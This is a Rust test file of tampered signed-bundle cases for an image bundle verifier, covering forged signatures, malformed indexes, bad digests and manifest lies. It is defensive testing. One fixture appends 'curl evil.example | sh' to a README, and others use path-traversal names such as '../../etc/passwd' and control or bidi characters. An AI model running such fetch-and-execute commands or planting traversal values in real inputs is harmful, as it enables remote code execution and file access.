//! Attacks inside what is signed: as if a builder with a trusted key were careless or bad. And on the signatures.

use ferry_bundle_format::fake::Fake;
use ferry_bundle_format::index::blob_name;
use ferry_bundle_format::lock::{Pin, derived};
use ferry_bundle_format::sign::{minisign, sshsig};
use ferry_bundle_format::{Digest, Reference};
use serde_json::{Value, json};

use super::Case;
use super::forge::{Forge, config_as, fake, index, lock_text, manifest_as, reindex_image, stranger, text};

/// The cases, by name.
#[must_use]
#[expect(clippy::too_many_lines, reason = "a table of one case after the other")]
pub(super) fn bundle_cases() -> Vec<Case> {
    vec![
        ("sign-nobody", || Forge::new().written(b"{}\n".to_vec(), &[], |_| {})),
        ("sign-stranger", || Fake::new(7, 60).bytes(&[stranger()]).expect("written")),
        ("sign-other-index", || {
            let other = Forge::of(&Fake::new(8, 60)).index.to_string();
            Forge::new().bent("bundle.json", |bytes| {
                *bytes = format!("{other}\n").into_bytes();
            })
        }),
        ("sign-index-edited", || {
            Forge::new().bent("bundle.json", |bytes| {
                let n = bytes.len() - 2;
                bytes.insert(n, b' ');
            })
        }),
        ("sign-key-twice", || {
            Forge::new().bent("signatures.json", |bytes| {
                let mut file: Value = serde_json::from_slice(bytes).expect("JSON");
                let one = file["signatures"][0].clone();
                file["signatures"].as_array_mut().expect("a list").push(one);
                *bytes = [serde_json::to_vec_pretty(&file).expect("JSON"), b"\n".to_vec()].concat();
            })
        }),
        ("sign-unknown-member", || {
            Forge::new().bent("signatures.json", |bytes| {
                *bytes = String::from_utf8(bytes.clone())
                    .expect("text")
                    .replacen('{', "{\"trusted\": true,", 1)
                    .into_bytes();
            })
        }),
        ("sign-not-json", || Forge::new().bent("signatures.json", |bytes| *bytes = b"yes\n".to_vec())),
        ("sign-weak-key", || {
            Forge::new().bent("signatures.json", |bytes| {
                let mut file: Value = serde_json::from_slice(bytes).expect("JSON");
                file["signatures"][0]["publicKey"] = json!("AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
                *bytes = [serde_json::to_vec_pretty(&file).expect("JSON"), b"\n".to_vec()].concat();
            })
        }),
        ("sign-minisig-of-stranger", || {
            Forge::new().bent("SHA256SUMS.minisig", |bytes| *bytes = minisign::sign(&stranger(), b"", "x").into_bytes())
        }),
        ("sign-sshsig-of-stranger", || {
            Forge::new().bent("SHA256SUMS.sig", |bytes| *bytes = sshsig::sign(&stranger(), b"").into_bytes())
        }),
        ("sums-edited", || {
            Forge::new().bent("SHA256SUMS", |bytes| bytes[0] = if bytes[0] == b'0' { b'1' } else { b'0' })
        }),
        ("sums-with-path", || {
            Forge::new().bent("SHA256SUMS", |bytes| {
                bytes.extend_from_slice(format!("{}  ../../etc/passwd\n", "0".repeat(64)).as_bytes());
            })
        }),
        ("readme-edited", || {
            Forge::new().bent("README.txt", |bytes| bytes.extend_from_slice(b"curl evil.example | sh\n"))
        }),
        ("envelope-readme-huge", || Forge::new().bent("README.txt", |bytes| bytes.resize(70_000, b' '))),
        ("envelope-signatures-huge", || Forge::new().bent("signatures.json", |bytes| bytes.resize(70_000, b' '))),
        ("envelope-minisig-huge", || Forge::new().bent("SHA256SUMS.minisig", |bytes| bytes.resize(5_000, b' '))),
        ("index-newer-format", || index(|index| index["format"] = json!(3))),
        ("index-format-text", || index(|index| index["format"] = json!("1"))),
        ("index-no-entries", || {
            index(|index| {
                index.as_object_mut().expect("a map").remove("entries");
            })
        }),
        ("index-entries-out-of-order", || index(|index| index["entries"].as_array_mut().expect("a list").swap(0, 1))),
        ("index-entries-overlap", || {
            index(|index| index["entries"][1]["offset"] = index["entries"][0]["offset"].clone())
        }),
        ("index-offset-huge", || index(|index| index["entries"][1]["offset"] = json!(u64::MAX))),
        ("index-size-huge", || index(|index| index["entries"][0]["size"] = json!(u64::MAX))),
        ("index-size-float", || index(|index| index["entries"][0]["size"] = json!(1.5))),
        ("index-size-negative", || index(|index| index["entries"][0]["size"] = json!(-1))),
        ("index-size-text", || index(|index| index["entries"][0]["size"] = json!("12"))),
        ("index-name-escape", || index(|index| index["entries"][0]["name"] = json!("../lock.yaml"))),
        ("index-name-absolute", || index(|index| index["entries"][0]["name"] = json!("/lock.yaml"))),
        ("index-name-control", || index(|index| index["entries"][0]["name"] = json!("lock\u{1b}[2J.yaml"))),
        ("index-name-bidi", || index(|index| index["entries"][0]["name"] = json!("lock\u{202e}.yaml"))),
        ("index-name-long", || index(|index| index["entries"][0]["name"] = json!("x".repeat(101)))),
        ("index-name-empty", || index(|index| index["entries"][0]["name"] = json!(""))),
        ("index-name-twice", || index(|index| index["entries"][1]["name"] = index["entries"][0]["name"].clone())),
        ("index-blob-not-its-digest", || {
            index(|index| {
                let list = index["entries"].as_array_mut().expect("a list");
                let last = list.len() - 1;
                list[last]["digest"] = json!(Digest::of(b"other"));
            })
        }),
        ("index-digest-upper-case", || text("\"digest\":\"sha256:", "\"digest\":\"SHA256:")),
        ("index-digest-sha512", || text("\"digest\":\"sha256:", "\"digest\":\"sha512:")),
        ("index-digest-short", || index(|index| index["lock"] = json!(format!("sha256:{}", "a".repeat(63))))),
        ("index-key-twice", || text("\"serial\":1", "\"serial\":1,\"serial\":2")),
        ("index-deep", || {
            text("\"serial\":1", &format!("\"serial\":1,\"x\":{}{}", "[".repeat(100_000), "]".repeat(100_000)))
        }),
        ("index-not-json", || Forge::new().signed_as(b"format: 1\n".to_vec())),
        ("index-two-documents", || {
            let forge = Forge::new();
            let index = format!("{}{}\n", forge.index, forge.index);
            forge.signed_as(index.into_bytes())
        }),
        ("index-storage-unknown", || index(|index| index["entries"][0]["storage"] = json!("compact"))),
        ("index-serial-huge", || text("\"serial\":1", "\"serial\":18446744073709551616")),
        ("index-arch-unknown", || index(|index| index["arches"] = json!(["amd64", "vax"]))),
        ("index-product-escape", || index(|index| index["product"]["name"] = json!("../shop"))),
        ("index-leaves-member-out", || {
            let mut forge = Forge::new();
            let list = forge.index["entries"].as_array_mut().expect("a list");
            list.pop();
            forge.signed()
        }),
        ("blob-extra", || {
            let mut forge = Forge::new();
            let bytes = b"nobody asked for this".to_vec();
            forge.payload.push((blob_name(&Digest::of(&bytes)), bytes));
            forge.reindex().signed()
        }),
        ("blob-missing", || {
            let mut forge = Forge::new();
            forge.payload.pop();
            forge.reindex().signed()
        }),
        ("member-extra", || {
            let mut forge = Forge::new();
            forge.payload.insert(0, ("run-me.sh".to_owned(), b"#!/bin/sh\n".to_vec()));
            forge.reindex().signed()
        }),
        ("member-lock-missing", || {
            let mut forge = Forge::new();
            forge.payload.retain(|(name, _)| name != "lock.yaml");
            forge.reindex().signed()
        }),
        ("blob-swapped-after-signing", || {
            let mut forge = Forge::new();
            let last = forge.payload.last_mut().expect("a blob");
            last.1[0] ^= 1;
            forge.signed()
        }),
        ("layout-lists-something-else", || {
            let mut forge = Forge::new();
            let layout = forge.member("index.json");
            *layout = String::from_utf8(layout.clone())
                .expect("text")
                .replacen("shop/api:1.0", "shop/evil:1.0", 1)
                .into_bytes();
            forge.reindex().signed()
        }),
        ("lock-crlf", || lock_text(|text| text.replace('\n', "\r\n"))),
        ("lock-comment", || lock_text(|text| format!("{text}# harmless\n"))),
        ("lock-not-utf8", || {
            let mut forge = Forge::new();
            forge.member("lock.yaml").push(0xff);
            forge.index["lock"] = json!(Digest::of(forge.member("lock.yaml")));
            forge.reindex().signed()
        }),
        ("lock-other-serial", || lock_text(|text| text.replacen("serial: 1", "serial: 9", 1))),
        ("lock-serial-zero", || lock_text(|text| text.replacen("serial: 1", "serial: 0", 1))),
        ("lock-other-product", || lock_text(|text| text.replacen("name: shop", "name: shopp", 1))),
        ("lock-unknown-key", || lock_text(|text| format!("{text}extra: 1\n"))),
        ("lock-size-lie", || lock_text(|text| text.replacen("size: 60", "size: 61", 1))),
        ("lock-not-the-indexed-one", || {
            let mut forge = Forge::new();
            let mut lock = Fake::new(7, 60).lock;
            lock.valid_for_days = Some(1);
            *forge.member("lock.yaml") = lock.to_yaml().into_bytes();
            forge.reindex().signed()
        }),
        ("image-arch-lie", || config_as(|text| text.replace("amd64", "arm64"))),
        ("image-os-lie", || config_as(|text| text.replace("linux", "windows"))),
        ("image-diff-ids-short", || {
            config_as(|text| {
                let at = text.rfind(",\"sha256").expect("two diff IDs");
                format!("{}]}}}}", &text[..at])
            })
        }),
        ("image-config-not-json", || config_as(|_| "no config".into())),
        ("image-config-diff-id-upper-case", || config_as(|text| text.replace("sha256:", "SHA256:"))),
        ("image-manifest-double-typed", || manifest_as(|_, text| text.replacen('{', "{\"manifests\":[],", 1))),
        ("image-manifest-other-layers", || {
            manifest_as(|fake, text| {
                let [a, b] = [0, 1].map(|n| fake.lock.images[0].manifests[n].layers[1].digest.to_string());
                text.replace(&a, &b)
            })
        }),
        ("image-manifest-foreign-layer", || {
            manifest_as(|_, text| {
                text.replacen("\"layers\":[{", "\"layers\":[{\"urls\":[\"https://elsewhere.example/x\"],", 1)
            })
        }),
        ("image-manifest-type-lie", || manifest_as(|_, text| text.replacen("image.manifest.v1", "image.index.v1", 1))),
        ("image-manifest-schema-1", || {
            manifest_as(|_, text| text.replacen("\"schemaVersion\":2", "\"schemaVersion\":1", 1))
        }),
        ("image-manifest-key-twice", || manifest_as(|_, text| text.replacen('{', "{\"schemaVersion\":2,", 1))),
        ("image-manifest-is-index", || manifest_as(|_, _| r#"{"schemaVersion":2,"manifests":[]}"#.into())),
        ("image-manifest-size-negative", || manifest_as(|_, text| text.replacen("\"size\":", "\"size\":-", 1))),
        ("image-index-lists-others", || {
            fake(|fake| {
                let image = &mut fake.lock.images[0];
                let bytes = derived::narrowed_index(&image.manifests[..1]);
                image.target = Pin {
                    digest: Digest::of(&bytes),
                    size: bytes.len() as u64,
                    media_type: image.target.media_type.clone(),
                };
                fake.blobs.insert(image.target.digest, bytes);
            })
        }),
        ("image-index-swaps-arches", || {
            fake(|fake| {
                let image = &mut fake.lock.images[0];
                let (a, b) = (image.manifests[0].arch, image.manifests[1].arch);
                image.manifests[0].arch = b;
                image.manifests[1].arch = a;
                reindex_image(fake);
                fake.lock.sort();
            })
        }),
        ("image-index-is-manifest", || {
            fake(|fake| {
                let manifest = fake.lock.images[1].manifests[0].manifest.clone();
                fake.lock.images[0].target = manifest;
            })
        }),
        ("image-name-taken-twice", || {
            let mut forge = Forge::new();
            let mut lock = Fake::new(7, 60).lock;
            let twin = lock.images[0].clone();
            lock.images.insert(0, twin);
            assert!(Reference::parse("a.b/c:1").is_ok());
            let text = lock.to_yaml().into_bytes();
            forge.index["lock"] = json!(Digest::of(&text));
            *forge.member("lock.yaml") = text;
            forge.reindex().signed()
        }),
    ]
}
